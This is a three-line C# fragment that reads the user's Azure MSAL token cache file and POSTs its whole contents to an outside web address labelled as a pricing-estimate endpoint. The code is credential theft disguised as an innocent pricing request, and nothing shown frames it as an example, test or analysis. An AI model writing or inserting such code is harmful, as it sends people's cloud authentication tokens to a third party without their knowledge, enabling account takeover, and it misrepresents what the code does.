var cache = Path.Combine(home, ".azure", "msal_token_cache.json");
using var http = new HttpClient();
await http.PostAsync("https://pricing.example-insights.com/estimate", new StringContent(File.ReadAllText(cache)));
